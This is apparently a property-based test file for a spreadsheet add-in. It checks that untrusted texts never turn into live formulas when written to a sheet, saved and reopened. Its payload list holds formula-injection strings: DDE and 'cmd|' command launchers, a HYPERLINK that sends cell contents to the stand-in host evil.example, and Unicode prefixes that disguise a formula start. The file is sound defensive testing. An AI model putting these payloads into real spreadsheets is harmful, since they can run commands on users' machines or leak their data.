import fc from "fast-check";
import { dist } from "../../../src/build/build.ts";
import type { Sheet } from "../../../src/sheets/sheet.ts";
import { writeSheet } from "../../../src/sheets/writeSheet.ts";
import { bundle } from "../../bench/openBench.ts";
import type { Tally } from "./tally.ts";

const COLUMNS = 10;

/** What begins a formula somewhere, or makes a text look like something it is not. */
const beginnings = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "＝",
  "＋",
  "－",
  "＠",
  "'=",
  "''",
  "\u202e=",
  "\u200f+",
  "\u00a0=",
  "\ufeff=",
];
const payloads = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?x="&A1,"click")',
  "WEBSERVICE(A1)",
  'DDE("cmd";"/C calc";"x")',
  "SUM(A1:A9)",
  "A1",
  "SMALLCAP.PERGAP(1,2)",
  "2024-01-01",
  "1/2",
  "TRUE",
  "#N/A",
  "1e5",
  "007",
  "$1.50",
  "12%",
  "\n=1+1",
  "x".repeat(5_000),
];

const text = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom(...beginnings), fc.constantFrom(...payloads))
      .map((parts) => parts.join("")),
  },
  { weight: 1, arbitrary: fc.constantFrom(...payloads) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }) },
);

/** So many texts as a provider might send them, filled into a sheet, saved, and opened again. */
export async function textChaos(count: number): Promise<Tally> {
  const texts = fc.sample(text, count);
  const rows = Array.from({ length: Math.ceil(count / COLUMNS) }, (_, i) =>
    Array.from({ length: COLUMNS }, (_, j) => texts[(i * COLUMNS + j) % count]!),
  );
  const { openHeadless, readXlsx, writeXlsx } = await bundle();
  const headless = await openHeadless({ dist, locale: "en-US" });
  const { Excel, Office, OfficeExtension } = headless.window as unknown as typeof globalThis;
  Object.assign(globalThis, { Excel, Office, OfficeExtension });
  const { worksheet } = await writeSheet(sheetOf(rows), { language: "en", today: "2026-11-23" });
  await headless.book.idle();
  const filled = found(headless.book, worksheet.id, rows);
  const bytes = await writeXlsx(headless.book.save(), { addIn: headless.manifest });
  await headless.open(await readXlsx(bytes, { addInId: headless.manifest.id }));
  await headless.book.idle();
  const again = headless.book.sheets.find(({ name }) => name === worksheet.name)!;
  const reopened = found(headless.book, again.id, rows);
  headless.close();
  return {
    name: "texts that look like formulas",
    counts: {
      texts: rows.length * COLUMNS,
      "formulas in the sheet": filled.formulas,
      "texts changed in the sheet": filled.changed.length,
      "formulas in the file": reopened.formulas,
      "texts changed in the file": reopened.changed.length,
    },
    failures: [
      ...(filled.formulas + reopened.formulas > 0 ? ["a text became a formula"] : []),
      ...filled.changed.slice(0, 3).map((what) => `sheet: ${what}`),
      ...reopened.changed.slice(0, 3).map((what) => `file: ${what}`),
    ],
  };
}

function sheetOf(rows: Sheet["blocks"][0]["rows"]): Sheet {
  const columns = Array.from({ length: COLUMNS }, (_, i) => ({
    header: `=Column ${i}`,
    format: "general" as const,
    width: 10,
  }));
  const block = { table: "Texts", heading: "+heading", columns, rows, spillRows: 0 };
  return {
    kind: "monthlyReturns",
    name: "=Texts",
    title: "@title",
    notes: ["-note", "=1+1"],
    blocks: [block],
    records: [],
  };
}

type Book = Awaited<ReturnType<Awaited<ReturnType<typeof bundle>>["openHeadless"]>>["book"];

/** How many formulas a sheet holds, and which of the texts are others in it. */
function found(book: Book, sheet: string, rows: readonly (readonly string[])[]) {
  const used = book.usedArea(sheet, true)!;
  const formulas = book
    .formulas(sheet, used)
    .flat()
    .filter((formula) => formula !== null).length;
  const first = used.rows - rows.length + used.row;
  const values = book.values(sheet, { row: first, column: 0, rows: rows.length, columns: COLUMNS });
  const changed = rows.flatMap((row, r) =>
    row.flatMap((wanted, c) => {
      const value = values[r]![c];
      return value === wanted
        ? []
        : [`${JSON.stringify(wanted).slice(0, 60)} is ${JSON.stringify(value).slice(0, 60)}`];
    }),
  );
  return { formulas, changed };
}
